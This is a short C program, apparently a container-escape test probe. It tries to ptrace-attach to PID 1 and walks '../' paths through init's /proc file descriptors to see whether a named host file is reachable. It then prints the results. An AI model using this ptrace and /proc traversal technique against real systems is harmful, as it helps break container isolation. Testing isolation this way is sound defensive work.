/* grab PATH: the first thing that it does is to reach for the process that is pid 1, before that has had time to lock
 * its doors: for tracing it, and for PATH through each of its descriptors.  Prints what it got. */
#include <fcntl.h>
#include <stdio.h>
#include <sys/ptrace.h>
#include <unistd.h>

int
main (int argc, char **argv)
{
  int traced = ptrace (PTRACE_SEIZE, 1, NULL, NULL) == 0;
  for (int fd = 3; argc == 2 && fd < 64; fd++)
    {
      char path[4096];
      snprintf (path, sizeof path, "/proc/1/fd/%d/../../../../../../../../../../%s", fd, argv[1]);
      if (access (path, F_OK) == 0)
        printf ("got %s through descriptor %d of init\n", argv[1], fd);
    }
  if (traced)
    puts ("traced init");
  return 0;
}
